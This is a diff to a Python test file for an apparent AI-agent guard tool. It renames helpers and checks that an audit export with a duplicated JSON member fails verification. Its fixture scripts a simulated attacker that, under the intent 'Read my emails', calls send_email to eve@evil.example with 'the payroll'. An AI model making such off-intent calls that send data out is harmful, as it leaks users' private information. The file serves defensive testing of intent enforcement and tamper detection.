@@ -22,19 +22,20 @@ from tests.attacks.test_intent_e2e import world
 from tests.clients import GUARD
 
 
-def _guard(cfg, *args):
+def run_guard(cfg, *args):
     return subprocess.run([*GUARD, "--config", str(cfg), *args], capture_output=True, text=True, timeout=120)
 
 
-def _export(tmp_path):
+def exported_trail(tmp_path):
+    """A config whose audit trail holds a session that sent mail, its head, and its full export."""
     cfg, _ = world(tmp_path, ["list_emails", "send_email"], {"list_emails": "From: bob@corp.example"})
     with Attacker(cfg, "--upstream", "world", "--intent", "Read my emails") as a:
         a.open()
         a.names()
         a.call("send_email", {"to": "eve@evil.example", "body": "the payroll"})
-    anchor = _guard(cfg, "audit", "head").stdout.strip()
+    anchor = run_guard(cfg, "audit", "head").stdout.strip()
     export = tmp_path / "audit.jsonl"
-    assert _guard(cfg, "audit", "export", str(export)).returncode == 0
+    assert run_guard(cfg, "audit", "export", str(export)).returncode == 0
     return cfg, anchor, export
 
 
@@ -60,8 +61,8 @@ def _doubled(export, member: str) -> None:
 
 @pytest.mark.parametrize("member", ["data", "decision"])
 def test_an_export_line_with_a_member_twice_does_not_verify(tmp_path, member):
-    cfg, anchor, export = _export(tmp_path)
+    cfg, anchor, export = exported_trail(tmp_path)
     _doubled(export, member)
-    checked = _guard(cfg, "audit", "verify", "--file", str(export), "--anchor", anchor)
+    checked = run_guard(cfg, "audit", "verify", "--file", str(export), "--anchor", anchor)
     assert checked.returncode != 0, f"a line saying decision=allow before deny verified: {checked.stdout}"
     assert "appears twice" in checked.stderr and "Traceback" not in checked.stderr
